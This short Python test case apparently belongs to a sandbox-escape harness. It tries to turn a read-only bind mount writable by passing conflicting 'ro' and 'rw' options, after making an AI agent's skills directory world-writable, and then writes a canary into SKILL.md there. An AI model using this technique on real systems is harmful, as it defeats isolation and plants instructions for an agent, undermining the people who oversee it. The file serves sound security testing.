"""`ro` followed by `rw` is writable."""

import os

from bypass import refused

SOURCE = "idea: two readings of one entry"
WAY = "create"
BARE = {"crun": "crun 1.8.1 leaves the bind read-only all the same"}
STOPPED = refused("bind-blocked")


def attack(t):
    os.makedirs("/srv/gateway/.openclaw/skills", 0o755)
    os.chmod("/srv/gateway/.openclaw/skills", 0o777)
    t.bind("/srv/gateway/.openclaw/skills", "/x", "rbind", "ro", "rw")
    t.run("echo %s >/x/SKILL.md" % t.canary)
    return t.read("/srv/gateway/.openclaw/skills/SKILL.md")
